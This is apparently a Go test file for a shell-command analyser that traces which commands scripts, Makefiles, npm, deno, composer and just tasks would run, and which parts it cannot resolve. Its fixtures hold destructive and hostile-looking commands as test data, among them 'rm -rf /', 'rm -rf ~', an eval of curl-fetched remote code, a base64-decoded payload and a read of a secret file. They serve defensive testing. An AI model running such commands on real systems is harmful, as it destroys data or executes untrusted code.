package shell_test

import (
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"

	"github.com/ravenclaude/thing/generated/tables"
	"github.com/ravenclaude/thing/internal/fact"
	"github.com/ravenclaude/thing/internal/place"
	"github.com/ravenclaude/thing/internal/sample"
	"github.com/ravenclaude/thing/internal/shell"
	"github.com/ravenclaude/thing/internal/world"
)

// holding is an environment whose project holds files, by path.
func holding(w world.World) shell.Env {
	return shell.Env{Tables: &tables.Tables, World: w, Places: place.New(&tables.Tables, w, project, project), Dir: project, Field: "command"}
}

func worldOf(files map[string]string) world.World {
	s := sample.Sample{Line: "true", Dir: project, Given: sample.Given{Files: map[string]sample.File{}}}
	for name, content := range files {
		f := sample.File{Content: content}
		if target, ok := strings.CutPrefix(content, "-> "); ok {
			f = sample.File{Link: target}
		}
		s.Given.Files[name] = f
	}
	return s.World()
}

// inFiles renders the invocations that stand in files, each with its place.
func inFiles(f *fact.Facts) []string {
	var out []string
	for _, inv := range f.Invocations {
		if inv.File == "" {
			continue
		}
		words := []string{inv.Program}
		for _, w := range inv.Words {
			text := w.Text
			if !w.Static() {
				text = "‹" + text + "›"
			}
			words = append(words, text)
		}
		out = append(out, fmt.Sprintf("%s:%d %s", inv.File, inv.Line, strings.Join(words, " ")))
	}
	return out
}

func TestFiles(t *testing.T) {
	files := map[string]string{
		"a.sh":            "#!/bin/sh\n# a comment: rm -rf /\necho \"$1\"\n\nrm -rf \"$HOME/x\"\n",
		"bin/run":         "#!/usr/bin/env bash\ncd \"$(dirname \"$0\")/..\"\nrm -rf sub\n",
		"lib/env.sh":      "D=/srv/data\nhelper() {\n  rm -rf \"$D\"\n}\nunused() { rm -rf /; }\n",
		"main.sh":         ". ./lib/env.sh\nhelper\n",
		"case.sh":         "case \"$1\" in\n  deploy) git push --force;;\n  test) go test;;\n  *) ls;;\nesac\n",
		"plain":           "rm x\n",
		"link.sh":         "-> a.sh",
		"py":              "#!/usr/bin/env python3\nprint(1)\n",
		"nested/inner.sh": "sh -c 'rm -rf y'\n",
		"bytes.sh":        "# one\nr\x00m x\ncaf\xe9\r\n",
		"Makefile":        "B := out\nV = $(B)/v\n.PHONY: all\nall: dep\n\t@echo $(V) $@ $<\n\t-rm -rf \\\n\t  $(B)\ndep:\n\tgo vet ./...\n%.o: %.c\n\tcc -c $< -o $@\nclean: ; rm -rf $(HOME)/z\nifeq ($(OS),x)\nT = rm\nelse\nT = ls\nendif\nboth:\n\t$(T) q\nsub:\n\t$(MAKE) -C lib all\ninclude extra.mk\nS := $(shell cat secret)\n",
		"extra.mk":        "more:\n\trm extra\n",
		"lib/Makefile":    "all:\n\trm in-lib\n",
		"package.json":    "{\n  // why\n  \"name\": \"x\",\n  \"scripts\": {\n    \"pretest\": \"rm pre\",\n    \"test\": \"jest\",\n    \"posttest\": \"npm run build -- --fast\",\n    \"build\": \"tsc\",\n    \"build:a\": \"a1\",\n    \"build:b\": \"b1\",\n    \"prepare\": \"own-hooks\",\n  },\n}\n",
		"deno.json":       "{\"tasks\": {\"d\": {\"command\": \"rm d\", \"dependencies\": [\"e\"]}, \"e\": \"rm e\"}}",
		"composer.json":   "{\"scripts\": {\"t\": [\"@u\", \"@php x.php\"], \"u\": \"rm u\"}}",
		"justfile":        "set shell := [\"bash\", \"-c\"]\nout := \"dist\"\nalias c := clean\n\n# default\nbuild mode='debug': (dep mode) gen\n  @go build -o {{out}} {{mode}}\ndep m:\n  echo {{m}}\ngen:\n  #!/usr/bin/env bash\n  set -e\n  rm gen\nclean:\n  rm -rf {{out}}\n",
	}
	for _, c := range []struct {
		src  string
		want []string
	}{
		{`bash a.sh hi`, []string{"a.sh:3 echo hi", "a.sh:5 rm -rf /home/user/x"}},
		{`sh link.sh`, []string{"a.sh:3 echo ", "a.sh:5 rm -rf /home/user/x"}},
		{`./a.sh v`, []string{"a.sh:3 echo v", "a.sh:5 rm -rf /home/user/x"}},
		{`sudo ./a.sh v`, []string{"a.sh:3 echo v", "a.sh:5 rm -rf /home/user/x"}},
		{project + `/bin/run`, []string{"bin/run:2 dirname /home/user/project/bin/run", "bin/run:2 cd /home/user/project/bin/..", "bin/run:3 rm -rf sub"}},
		{`source lib/env.sh; helper`, []string{"lib/env.sh:3 rm -rf /srv/data"}},
		{`bash main.sh`, []string{"main.sh:1 source ./lib/env.sh", "lib/env.sh:3 rm -rf /srv/data"}},
		{`bash case.sh test`, []string{"case.sh:3 go test"}},
		{`bash case.sh deploy`, []string{"case.sh:2 git push --force"}},
		{`bash case.sh`, []string{"case.sh:4 ls"}},
		{`./plain`, []string{"plain:1 rm x"}},
		{`bash nested/inner.sh`, []string{"nested/inner.sh:1 bash -c rm -rf y", "nested/inner.sh:1 rm -rf y"}},
		{`bash bytes.sh`, []string{"bytes.sh:2 rm x", "bytes.sh:3 caf\ufffd"}},
		{`rm() { :; }; bash plain`, []string{"plain:1 rm x"}},
		{`make`, []string{"Makefile:23 cat secret", "Makefile:9 go vet ./...", "Makefile:5 echo out/v all dep", "Makefile:6 rm -rf out"}},
		{`make clean`, []string{"Makefile:23 cat secret", "Makefile:12 rm -rf /home/user/z"}},
		{`make x.o`, []string{"Makefile:23 cat secret", "Makefile:11 cc -c x.c -o x.o"}},
		{`make both`, []string{"Makefile:23 cat secret", "Makefile:19 rm q", "Makefile:19 ls q"}},
		{`make sub B=1`, []string{"Makefile:23 cat secret", "Makefile:21 make -C lib all", "lib/Makefile:2 rm in-lib"}},
		{`make more`, []string{"Makefile:23 cat secret", "extra.mk:2 rm extra"}},
		{`make -C lib`, []string{"lib/Makefile:2 rm in-lib"}},
		{`make -f extra.mk`, []string{"extra.mk:2 rm extra"}},
		{`make -n clean`, nil},
		{`cd lib && npm test`, []string{"package.json:5 rm pre", "package.json:6 jest", "package.json:7 npm run build -- --fast", "package.json:8 tsc --fast"}},
		{`npm --prefix . run build`, []string{"package.json:8 tsc"}},
		{`npm install left-pad`, []string{"package.json:11 own-hooks"}},
		{`npm install --ignore-scripts`, nil},
		{`yarn build`, []string{"package.json:8 tsc"}},
		{`yarn build:a`, []string{"package.json:9 a1"}},
		{`pnpm build:b`, []string{"package.json:10 b1"}},
		{`run-p 'build:*'`, []string{"package.json:9 a1", "package.json:10 b1"}},
		{`node --run build`, []string{"package.json:8 tsc"}},
		{`deno task d`, []string{"deno.json:1 rm e", "deno.json:1 rm d"}},
		{`composer t`, []string{"composer.json:1 rm u", "composer.json:1 php x.php"}},
		{`just`, []string{"justfile:9 echo mode", "justfile:11 set -e", "justfile:11 rm gen", "justfile:7 go build -o dist debug"}},
		{`just c`, []string{"justfile:15 rm -rf dist"}},
		{`ls a.sh; cat Makefile; echo ./a.sh`, nil},
	} {
		f := shell.Analyze(c.src, holding(worldOf(files)))
		got := slices.DeleteFunc(inFiles(f), func(s string) bool { return strings.Contains(s, " bash ./") || strings.Contains(s, " env bash") })
		if !slices.Equal(got, c.want) {
			t.Errorf("%s\n got %q\nwant %q", c.src, got, c.want)
		}
		for _, inv := range f.Invocations {
			if inv.Span.Start < 0 || inv.Span.End > len(c.src) || inv.Span.Start >= inv.Span.End || inv.File != "" && !inv.Outer {
				t.Errorf("%s: %s: span %v, outer %v", c.src, inv.Program, inv.Span, inv.Outer)
			}
		}
		for _, o := range f.Opaque {
			if !o.Note {
				t.Errorf("%s: opaque: %s", c.src, o.Reason)
			}
		}
	}
}

// TestFileCode holds that code in other languages is seen, and whether git
// keeps it.
func TestFileCode(t *testing.T) {
	w := worldOf(map[string]string{"a.py": "import os\nos.system('id')\n", "x": "#!/usr/bin/python3 -u\nprint(1)\n"})
	for src, want := range map[string]string{`python3 a.py`: "a.py", `./x`: "x"} {
		f := shell.Analyze(src, holding(w))
		i := slices.IndexFunc(f.Texts, func(x fact.Text) bool { return x.Lang == "python" })
		if i < 0 {
			t.Errorf("%s: no code", src)
			continue
		}
		if x := f.Texts[i]; x.File != want || x.Line != 1 || x.Kept || !x.Moved {
			t.Errorf("%s: code in %s:%d, kept %v, moved %v", src, x.File, x.Line, x.Kept, x.Moved)
		}
	}
	s := sample.Sample{Line: "true", Dir: project, Given: sample.Given{Files: map[string]sample.File{"a.py": {Content: "print(1)\n"}}, Git: sample.Git{Tracked: []string{"a.py"}}}}
	for _, x := range shell.Analyze(`python3 a.py`, holding(s.World())).Texts {
		if x.Lang != "" && !x.Kept {
			t.Error("code that git tracks is not marked")
		}
	}
}

// TestWritten holds that scripts are walked when they are written, and
// documents are not.
func TestWritten(t *testing.T) {
	for _, c := range []struct {
		src  string
		want bool
	}{
		{"cat > x.sh <<'E'\nrm -rf q\nE", true},
		{"echo 'rm -rf q' > .git/hooks/pre-commit", true},
		{"printf '#!/bin/sh\\nrm -rf q\\n' > tool", true},
		{"echo 'rm -rf q' | tee x.sh", true},
		{"echo 'rm -rf q' >> x.sh", true},
		{"printf 'all:\\n\\trm -rf q\\n' > Makefile", true},
		{`echo '{"scripts": {"prepare": "rm -rf q"}}' > package.json`, true},
		{"cat > notes.md <<'E'\nrm -rf q\nE", false},
		{"echo 'rm -rf q' > notes.txt", false},
		{"printf '#!/usr/bin/env python3\\nrm -rf q\\n' > tool", false},
		{"echo 'rm -rf q' > /dev/null", false},
	} {
		f := shell.Analyze(c.src, holding(worldOf(nil)))
		got := slices.ContainsFunc(f.Invocations, func(inv fact.Invocation) bool {
			return inv.Program == "rm" && inv.Place&fact.InDraft != 0
		})
		if got != c.want {
			t.Errorf("%s: walked %v, want %v", c.src, got, c.want)
		}
	}
	f := shell.Analyze("echo 'rm -rf q' > x.sh; sh x.sh", holding(worldOf(nil)))
	if got := ran(f); got != "echo rm -rf q | bash x.sh | rm -rf q" {
		t.Errorf("a script that is written and run: %s", got)
	}
}

// TestNotes holds which unknown parts of files are a question.
func TestNotes(t *testing.T) {
	w := worldOf(map[string]string{
		"var.sh":   "$CMD x\neval \"$Y\"\n",
		"net.sh":   "eval \"$(curl -s https://x.example/i)\"\n",
		"dec.sh":   "$(base64 -d payload) x\n",
		"sub.sh":   "bash var.sh\n",
		"Makefile": "all:\n\t$(CMD) x\n",
	})
	for _, c := range []struct {
		src string
		ask bool
	}{
		{`bash var.sh`, false},
		{`bash sub.sh`, false},
		{`make`, false},
		{`bash net.sh`, true},
		{`bash dec.sh`, true},
		{`bash missing.sh`, false},
		{`make -f missing`, false},
		{`curl -O https://x.example/a.tgz && tar xf a.tgz && ./a/install.sh`, true},
		{`curl -O https://x.example/Makefile && make`, true},
		{`bash "$F"`, true},
	} {
		f := shell.Analyze(c.src, holding(w))
		if ask := slices.ContainsFunc(f.Opaque, func(o fact.Opaque) bool { return !o.Note }); ask != c.ask {
			t.Errorf("%s: asks %v, want %v: %v", c.src, ask, c.ask, f.Opaque)
		}
	}
}

// odd is a world with a pipe, and one that counts what is opened.
type odd struct {
	world.World
	opened int
}

func (o *odd) Lstat(path string) (world.Info, error) {
	if path == project+"/pipe" {
		return world.Info{Mode: fs.ModeNamedPipe | 0o644}, nil
	}
	return o.World.Lstat(path)
}

func (o *odd) ReadFile(path string, max int) ([]byte, error) {
	o.opened++
	return o.World.ReadFile(path, max)
}

func (o *odd) Head(path string, max int) ([]byte, error) {
	o.opened++
	return o.World.Head(path, max)
}

// TestHostileFiles holds that whatever a file is, the analysis ends soon, and
// closed where it must.
func TestHostileFiles(t *testing.T) {
	rep := strings.Repeat
	var chain, deep strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&chain, "A%d = $(A%d)$(A%d)\n", i, i+1, i+1)
		fmt.Fprintf(&deep, "t%d: t%d\n\techo %d\n", i, i+1, i)
	}
	files := map[string]string{
		"large.sh":      rep("echo a\n", 10<<20/7) + "rm -rf ~\n",
		"large":         "#!/bin/sh\n" + rep("echo a\n", 10<<20/7),
		"elf":           "\x7fELF" + rep("\x00\x01", 4<<20),
		"small-elf":     "\x7fELF\x02\x01\x01\n\x00",
		"loop1":         "-> loop2",
		"loop2":         "-> loop1",
		"dir/x":         "",
		"a.sh":          "bash b.sh\nbash a.sh\n",
		"b.sh":          "./a.sh\n. ./b.sh\n",
		"grow.sh":       "bash grow.sh \"x$1\"\nbash grow.sh \"y$1\"\n",
		"selfish":       "#!./selfish\n",
		"fan/Makefile":  rep("t:\n", 100000) + "t:\n\trm -rf ~\n",
		"many/Makefile": "all: " + rep("x ", 100000) + "\n" + rep("x:\n\techo\n", 60000),
		"deep/Makefile": deep.String(),
		"blow/Makefile": chain.String() + "all:\n\techo $(A0)\n",
		"any/Makefile":  "%: %.c %.h\n\tcc $<\n%.c: %.y %\n\tyacc $<\nall: x\n",
		"tree/Makefile": func() (s string) {
			for i := range 60 {
				s += fmt.Sprintf("%%%d: %%%dx %%%dy\n\tcc\n", i, i, i)
				s += fmt.Sprintf("%%x: %%%d %%%d\n\tcc\n%%y: %%%d\n\tcc\n", i+1, i+2, i+1)
			}
			return s + "all: a0\n"
		}(),
		"pats/Makefile":         rep("%.o: %.c %.h\n\tcc\n", 300) + "all: " + rep("a.o b.o ", 3000) + "\n",
		"self/Makefile":         "include Makefile\nall:\n\t$(MAKE) all\nA = $(A)\nb:\n\techo $(A)\n",
		"each/Makefile":         "L := " + rep("a ", 5000) + "\nall:\n\techo $(foreach x,$(L),$(foreach y,$(L),$(x)$(y)))\n",
		"brackets/Makefile":     rep("$(", 100000) + "\nall:\n\techo " + rep("${", 100000) + "\n",
		"nest/package.json":     `{"a": ` + rep("[", 100000) + rep("]", 100000) + `, "scripts": {"test": "rm q"}}`,
		"open/package.json":     `{"scripts": {"test": "rm q", "x": `,
		"twice/package.json":    `{"scripts": {"test": "rm q", "test": "ls"}, "scripts": {"test": "pwd"}}`,
		"odd/package.json":      `{"scripts": [1, {"test": 2}], "scripts": 3, "scripts": {"test": null, "test": {"command": ["x"]}}}`,
		"cycle/package.json":    `{"scripts": {"test": "npm run a", "a": "npm run b && npm run test", "b": "npm run a"}}`,
		"grow/package.json":     `{"scripts": {"test": "npm test -- x; npm test -- y"}}`,
		"braces/justfile":       "a: " + rep("(", 100000) + "\n  echo " + rep("{{", 100000) + "\n",
		"cycle/justfile":        "a: b\n  just b\nb: a\n  just a x\n",
		"quotes/unterminated":   "echo '" + rep("x", 1000),
		"subst/subst.sh":        rep("$(", 300000),
		"lines/continued.mk":    "all:" + rep("\\\n", 200000) + "\n\trm q\n",
		"comments/package.json": rep("/*", 200000),
	}
	w := &odd{World: worldOf(files)}
	for _, c := range []struct {
		src string
		ask bool // must be a question
	}{
		{`bash large.sh`, true}, {`. ./large.sh`, true}, {`./large`, true},
		{`./elf`, false}, {`bash small-elf`, false},
		{`bash loop1`, true}, {`bash pipe`, true}, {`bash dir`, false},
		{`bash a.sh`, false}, {`./a.sh; ./b.sh`, false}, {`bash grow.sh`, true}, {`./selfish`, true},
		{`make -C fan`, false}, {`make -C many`, true}, {`make -C deep`, false}, {`make -C blow`, true}, {`make -C self all b`, true}, {`make -C any`, false}, {`make -C pats`, false}, {`make -C tree`, true},
		{`make -C each`, true}, {`make -C brackets`, true}, {`make -f lines/continued.mk`, false},
		{`npm --prefix nest test`, false}, {`npm --prefix open test`, true}, {`npm --prefix twice test`, false}, {`npm --prefix odd test`, false},
		{`npm --prefix cycle test`, false}, {`npm --prefix grow test`, true}, {`npm --prefix comments test`, true},
		{`cd braces && just`, true}, {`cd cycle && just`, false},
		{`bash quotes/unterminated`, true}, {`bash subst/subst.sh`, true},
	} {
		f := shell.Analyze(c.src, holding(w)) // what takes for ever would end in the time-out of all tests
		if ask := slices.ContainsFunc(f.Opaque, func(o fact.Opaque) bool { return !o.Note }); ask != c.ask {
			t.Errorf("%s: asks %v, want %v: %.300v", c.src, ask, c.ask, f.Opaque)
		}
	}
	for _, src := range []string{`npm --prefix twice test`, `make -C fan`} {
		if !slices.ContainsFunc(shell.Analyze(src, holding(w)).Invocations, func(inv fact.Invocation) bool { return inv.Program == "rm" }) {
			t.Errorf("%s: what one of two definitions runs is missing", src)
		}
	}
	w.opened = 0
	for _, src := range []string{`git status`, `ls -la; grep x f > /dev/null`, `cat large.sh`, `/usr/bin/git log`, `rm -rf build && go test ./...`} {
		shell.Analyze(src, holding(w))
	}
	if w.opened > 0 {
		t.Errorf("commands that run no file opened %d", w.opened)
	}
}

func FuzzFiles(f *testing.F) {
	for _, s := range []string{
		"a: b\n\t$(X) @-\nb:\n\tc\n", "define X\ny\nendef\n$(eval $(X))", "X += $(call X,$(1))\na:;$X", "ifeq (a,b)\nelse\nendif", "%: %.c\n\tcc $<", "a b&: c | d ; e",
		`{"scripts":{"test":"npm test"}}`, `{"scripts":{"test":["@test"]}}`, "x := `y`\na p='q': (a p)\n  {{p}}\n  #!sh", "alias a := b\nb:\n\t@echo {{x}}", "#!/bin/sh\ncase $1 in a) b;; esac", "#!./f -x\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if strings.HasPrefix(text, "-> ") {
			return
		}
		w := worldOf(map[string]string{"f": text, "Makefile": text, "package.json": text, "justfile": text})
		for _, src := range []string{"./f", "bash f a", ". ./f", "make", "make a b", "npm test", "just", "just a b", "cp f x.sh; sh x.sh", "cat > Makefile <<'END'\n" + text + "\nEND\n"} {
			facts := shell.Analyze(src, holding(w))
			for _, inv := range facts.Invocations {
				if inv.Span.Start < 0 || inv.Span.End > len(src) || inv.Span.Start > inv.Span.End {
					t.Fatalf("%s: span %v outside", src, inv.Span)
				}
			}
			for _, x := range facts.Texts {
				if x.Span.Start < 0 || x.Span.End > len(src) || x.Span.Start > x.Span.End {
					t.Fatalf("%s: text span %v outside", src, x.Span)
				}
			}
			for _, x := range facts.Touches {
				if x.Span.Start < 0 || x.Span.End > len(src) || x.Span.Start > x.Span.End || x.Word.Span.End > len(src) {
					t.Fatalf("%s: touch span %v outside", src, x.Span)
				}
			}
			for _, x := range facts.Opaque {
				if x.Span.Start < 0 || x.Span.End > len(src) || x.Span.Start > x.Span.End {
					t.Fatalf("%s: opaque span %v outside", src, x.Span)
				}
			}
		}
	})
}
